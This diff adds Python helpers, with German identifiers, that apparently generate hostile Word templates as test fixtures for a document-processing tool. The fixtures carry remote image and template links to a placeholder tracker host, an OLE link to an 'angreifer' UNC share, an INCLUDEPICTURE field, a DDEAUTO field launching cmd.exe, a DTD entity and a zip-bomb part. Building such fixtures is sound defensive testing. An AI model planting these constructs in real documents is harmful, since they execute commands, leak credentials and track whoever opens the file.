@@ -595,3 +595,112 @@ def seiten_nur_mit_beiwerk(pdf: Path, seiten: list[str]) -> list[int]:
         if koerper and BEIWERK.match(koerper[0]) and len(koerper) <= 4 and not mit_bild[nummer - 1]:
             verwaist.append(nummer)
     return verwaist
+
+
+# --- hostile templates ---------------------------------------------------------------------------
+
+_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
+
+
+def _zip_umschreiben(quelle: Path, ziel: Path, aendern: dict, neu: dict | None = None) -> None:
+    """Copy a .docx, passing the text of the parts named in `aendern` through their function and
+    adding the parts in `neu` (name → bytes)."""
+    with zipfile.ZipFile(quelle) as z:
+        teile = {n: z.read(n) for n in z.namelist()}
+    for name, f in aendern.items():
+        teile[name] = f(teile.get(name, b"").decode("utf-8")).encode("utf-8")
+    teile.update(neu or {})
+    with zipfile.ZipFile(ziel, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, daten in teile.items():
+            z.writestr(name, daten)
+
+
+def _rel(text: str, rid: str, typ: str, ziel: str) -> str:
+    if not text:
+        text = f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_REL}"></Relationships>'
+    eintrag = f'<Relationship Id="{rid}" Type="{_R}/{typ}" Target="{ziel}" TargetMode="External"/>'
+    return text.replace("</Relationships>", eintrag + "</Relationships>")
+
+
+def _in_den_koerper(xml: str) -> str:
+    """Insert `xml` as the first paragraph content of document.xml's body."""
+    return lambda text: text.replace("<w:body>", "<w:body>" + xml, 1)
+
+
+_FREMDES_BILD = (
+    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
+    '<wp:extent cx="914400" cy="365760"/><wp:docPr id="900" name="Logo" descr="Logo"/>'
+    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
+    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
+    '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
+    '<pic:nvPicPr><pic:cNvPr id="900" name="logo.png"/><pic:cNvPicPr/></pic:nvPicPr>'
+    f'<pic:blipFill><a:blip xmlns:r="{_R}" r:link="rIdFremd1"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
+    '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="365760"/></a:xfrm>'
+    '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>'
+    "</wp:inline></w:drawing></w:r></w:p>"
+)
+_OLE = (
+    '<w:p><w:r><w:object xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">'
+    '<v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:100pt;height:50pt"/>'
+    f'<o:OLEObject xmlns:r="{_R}" Type="Link" ProgID="Excel.Sheet.12" ShapeID="_x0000_i1025" '
+    'DrawAspect="Content" r:id="rIdFremd3" UpdateMode="Always"/></w:object></w:r></w:p>'
+)
+
+
+def _feldabsatz(code: str, ergebnis: str) -> str:
+    return (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        f'<w:r><w:instrText xml:space="preserve"> {code} </w:instrText></w:r>'
+        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{ergebnis}</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+
+
+def _vorlage_anhaengen(text: str) -> str:
+    """Attach a template on a server in settings.xml (declaring r: where it is not yet)."""
+    if 'xmlns:r="' not in text:
+        text = text.replace("<w:settings ", f'<w:settings xmlns:r="{_R}" ', 1)
+    return text.replace("</w:settings>", '<w:attachedTemplate r:id="rIdFremd2"/></w:settings>')
+
+
+def vorlage_mit_aussenverweisen(quelle: Path, ziel: Path) -> None:
+    """A template that reaches out when opened: a linked picture on a server, an attached template
+    on a server, an OLE link to a UNC path, INCLUDEPICTURE and DDEAUTO fields."""
+    koerper = (
+        _FREMDES_BILD
+        + _OLE
+        + _feldabsatz('INCLUDEPICTURE "http://tracker.example.org/p.png" \\\\d', "Bild")
+        + _feldabsatz('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"', "Ergebnis")
+    )
+    _zip_umschreiben(
+        quelle,
+        ziel,
+        {
+            "word/document.xml": _in_den_koerper(koerper),
+            "word/_rels/document.xml.rels": lambda t: _rel(
+                _rel(t, "rIdFremd1", "image", "http://tracker.example.org/logo.png"),
+                "rIdFremd3",
+                "oleObject",
+                "file://///angreifer/freigabe/tabelle.xlsx",
+            ),
+            "word/settings.xml": _vorlage_anhaengen,
+            "word/_rels/settings.xml.rels": lambda t: _rel(
+                t, "rIdFremd2", "attachedTemplate", "http://tracker.example.org/vorlage.dotx"
+            ),
+        },
+    )
+
+
+def vorlage_mit_dtd(quelle: Path, ziel: Path, teil: str = "word/styles.xml") -> None:
+    """A template whose `teil` declares an entity (harmless, never resolved)."""
+    _zip_umschreiben(
+        quelle,
+        ziel,
+        {teil: lambda t: t.replace("?>", '?><!DOCTYPE x [<!ENTITY e "Entität">]>', 1)},
+    )
+
+
+def vorlage_als_bombe(quelle: Path, ziel: Path, mib: int = 64) -> None:
+    """A template with a picture part that inflates from a few KiB to `mib` MiB."""
+    _zip_umschreiben(quelle, ziel, {}, {"word/media/riesig.png": bytes(mib * 2**20)})
